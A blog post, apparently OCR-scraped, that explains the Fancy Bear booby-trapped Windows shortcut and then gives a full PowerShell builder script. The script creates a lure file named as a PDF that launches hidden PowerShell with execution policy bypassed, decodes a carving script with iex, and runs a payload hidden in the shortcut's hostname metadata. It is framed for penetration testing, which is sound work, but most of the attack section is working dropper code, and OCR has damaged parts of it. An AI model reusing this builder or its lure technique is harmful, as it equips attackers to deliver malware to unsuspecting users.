Posted by Felix Weyne, April 2017.
Author contact: Twitter | LinkedIn
booby trapped shortcut, penetration testing, fancy bear APT, red team exercise, lnk file, powershell, shortcut backdoor

Embedding a shortcut (.lnk file) which points to powershell (accompanied by an encoded command) in a word document or zip file is a known sneaky trick to spread malware. The trick was alledegly also used by a Russian APT group called grizzly bear (source: Volexity, CrowdStrike), the same group who allegedly is responsible for hacking and influencing the american elections in2016. The alleged boobytrapped shortcut used by fancy bear against research institutes contains a feature that I haven't seen before. The shortcut not only calls powershell with an encoded command, but it also embeds an entire payload which isn't stored in the encoded command. Instead, the payload is stored in a hidden property field of the shortcut.

Studying and reverse engineering this sample is very usefull for red team penetration testers (people who challenge the defense of their own infrastructure in order to identify shortcomings and suggest possible improvements). In this blog Iwill explain how to create a 'fancy bear' like booby trapped shortcut. This dropper can be used for penetration testing purposes. The dropper has three distinguishable parts, these are visualized on image one and will be discussed throughout the blog.

Image one: Three parts of thebooby trapped shortcut: shortcut target set to powershell, carving script and embedded payload.

Circumventing the target length limitation

Creating a shortcut in Windows is very straightforward: right click on the desktop, and select 'New, shortcut'. A dialog window will pop up to ask you the location of the object. Once the shortcut is created, we can inspect its properties and add parameters to the target of the shortcut, as shown on image two.The number of characters in the target field of the GUI properties window is limited to two hundred sixty (260) characters. Because of the character limitation, we can only make the shortcut point to for instance a powershell executable (in order to create a backdoor with the shortcut), with a tiny additional encoded command added as a parameter.

Image two: (Top:) Shortcuts target path, as shown in theshortcuts properties GUI & a hex editor. (Bottom:) Extending the target character limitation via jscript.

The maximum target length can be extended though by creating the shortcut via a jscript making use of the 'WScript Shell' object. The GUI properties window will still clip the target field at two hundred sixty characters, but the 'WScript Shell'object will only clip the target parameter at one thousand ninety-six (1096) characters. The full target path can be inspected by opening the shortcut in a hex editor, as shown on image two.

Abusing the LNK format

Although we have found a way to extend the shortcut target length and thus the length of the parameter passed to powershell, this still isn't long enough to pass a large, decent scriptblock to powershell. The creators of the (alleged Russian) malware detected by Volexity also came to the same conclusion. They however studied the shell link binary file format specification well.

When a shortcut is created, a lot of metadata of the machine which created the shortcut are also stored inside the shortcut. Examples are the drive label and thehostname, as shown on image three (highlighted in red and green).

Image three: (Top:) host artifacts hidden in the shortcut. (Bottom:) Extract of the shell link binary file format specification.

When I inspected the link format specification, I noticed that some of these metadata fields may have a variable, unlimited length. An example of such a field is the hostname. The fact that the hostname stored in the shortcut may contain an arbitrary long value makes it useful to store a large payload. This payload can be a large script block, something which the shortcut target field didn't allow us to store.

Creating a booby trapped shortcut

With the information above, we now have the ingredients to craft a booby trapped shortcut. The backdoored shortcut can be created in any programming language, I have chosen powershell as my scripting language. The booby trapped shortcut will consist of three main parts, as shown on image one.

For the first part we need to create a carving script: a powershell script which will look for the embedded payload inside the shortcut. The carving script will be saved as an encoded parameter to powershell in the shortcuts target field. When a user opens the shortcut (the lnk file), the carving script will be executed. This carving script will look for the stored payload hidden in the hostname field. The carving script is shown below, you can see it being passed to powershell in the shortcuts target field on image four.

Image four: Booby trapped shortcut looks like an innocent document untill its properties are inspected.

#--Carving script: will find and decode the script block
#--embedded in the shortcuts hostname

#create a byte array to storethe encoded payload
$encodedPayloadBytes=New-Object byte[]($payloadSize);
#read the contents of the shortcut, starting from $payloadStart
$lnk=New-Object IO.FileStream $shortcutFilename,'Open','Read','ReadWrite';

#Base64 decode encoded payload
#execute payload (script block)
iex $scriptBlock;

The second goal is to create a shortcut which will link to powershell and pass the carving script. This shortcut will be created with the method to bypass the shortcuts target length limitation, as discussed earlier in this blog. The last goal is to actually write the payload: this payload is a powershell script which does not have any length limitations. The payload script can for instance contain a base64 encoded executable in a variable. This embeddedexecutable can be written to disk or loaded into memory. The options for the payload are unlimited.

The result of the three goals combined can be found below. The result is a powershell script which creates a booby trapped shortcut, with a configurable payload. This script can be used for penetration testing purposes on systems where you have the permission to penetrate. The script may be copied as long as the script contains an attribution to the original author.

# Create backdoored LNK file - by Felix Weyne
# Info:
# -Usage: place your powershell payload in $payloadContents
# -This payload can embed for instance an executable that needs
# -to be dropped to disk/loaded into memory

$shortcutName = "interesting-title-to-click-on.pdf.lnk"
$shortcutOutputPath ="$Home\Desktop\"+$shortcutName
$payloadContents =
    echo "This payload/script block can be huge, easily a few megabytes";
    echo $env:computername >> $Home\Desktop\IhaveRun.txt
    echo $env:computername >> $Home\Desktop\IhaveRun.txt

$bytes = [System.Text.Encoding]::Unicode.GetBytes($payloadContents)
$payload = [Convert]::ToBase64String($bytes)

function Convert-ByteArrayToHexString($inputByteArray)
    $String = [System.BitConverter]::ToString($inputByteArray)
    $String = $String -replace "\-",""

function Convert-HexStringToByteArray ($hexString) {
    $hexString = $hexString.ToLower()
    ,@($hexString -split '([a-f0-9]{2})' | foreach-object { if ($_) {[System.Convert]::ToByte($_,16)}})

function CreateShortcut($payloadStart,$payloadSize) {#<Part 1: encode carving script>

#$stP = startPayload, $siP = sizePayload,
#$scB = scriptblock, $lnk = filestream LNK file
#$b64 = base64 encoded scriptblok, $f=shortcut name
$carvingScript = @'
if(-not(Test-Path $f)){{
$x=Get-ChildItem -Path {3} -Filter $f -Recurse;
$lnk=New-Object IO.FileStream $f,'Open','Read','ReadWrite';
$b64=New-Object byte[]($siP);
iex $scB;
'@ -f $payloadStart,$payloadSize,$shortcutName,$shortcutFallbackExecutionFolder
    write-host "Generated carvingscript:" -foregroundcolor "yellow"
    echo $carvingScript;
    $compressedCarvingScript = $carvingScript -replace "`n",''  -replace "`r",''

    # Convert string to base64 encoded command
    $bytes = [System.Text.Encoding]::ASCII.GetBytes( $compressedCarvingScript  )
    $encodedCommand = [Convert]::ToBase64String($bytes)

    #<Part 2: create shortcut with encoded carving script>

    $WshShell = New-Object -comObject WScript.Shell

    $Shortcut = $WshShell.CreateShortcut($shortcutOutputPath)
    $Shortcut.TargetPath = "C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    $Shortcut.Arguments = "-win hidden -Ep ByPass `$r = [Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('$encodedCommand')); iex `$r;"
    $Shortcut.IconLocation = "C:\Windows\system32\SHELL32.dll, 1"

#<Part 3: find start of embedded payload (start of computer hostname)>
write-host "Creating LNK with payload. This will enable us to see where the payload starts" -foregroundcolor "green"
$payloadSize = $payload.Length
CreateShortcut 9999 $payloadSize

$enc = [system.Text.Encoding]::UTF8
[string]$computerName =$ENV:COMPUTERNAME
$computerNameBytes = $enc.GetBytes($computerName.ToLower())

$readin = [System.IO.File]::ReadAllBytes($shortcutOutputPath);
$contentsLnkFile = (Convert-ByteArrayToHexString $readin) -join ''
$computerNameInHex = (Convert-ByteArrayToHexString $computerNameBytes) -join ''

$startPayload = ($contentsLnkFile.IndexOf($computerNameInHex)) / 2
write-host "Start of payload in LNK file is at byte: #"$startPayload -foregroundcolor "green"

#<Part 3: create new link with correct start of payload
Remove-Item $shortcutOutputPath

CreateShortcut $startPayload $payloadSize
write-host "Output LNK file: "  $shortcutOutputPath -foregroundcolor "Cyan"

#<Part 4: embed payload
$payloadBytes = $enc.GetBytes($payload)
$payloadInHex = Convert-ByteArrayToHexString $payloadBytes
$readin = [System.IO.File]::ReadAllBytes($shortcutOutputPath);
$contentsLnkFile = (Convert-ByteArrayToHexString $readin) -join ''
$contentsLnkFile = $contentsLnkFile-replace $computerNameInHex,$payloadInHex;

$writeout = Convert-HexStringToByteArray $contentsLnkFile;
set-content -value$writeout -encoding byte -path $shortcutOutputPath;


Democratic National Committee cyber attacks, Wikipedia
CrowdStrike linking fancy bear to Russia, The Washington Post
Booby trapped shortcut used by fancy bear, Volexity
malicious shortcut sample sent by fancy bear to think tanks and NGOs (zipped, password=6190), VirusTotal
Lnk files spreading Kovter click-fraud trojan and Locky ransomware, Microsoft
Shell link binary file format specification, Microsoft
Bear’s election campaign, in depth analysis of the alleged Russian booby trapped shortcut
generated booby trapped shortcut with the above script (ASCII Rick Astley)
virustotal detection onbooby trapped shortcut, generated withthe powershell script in this blog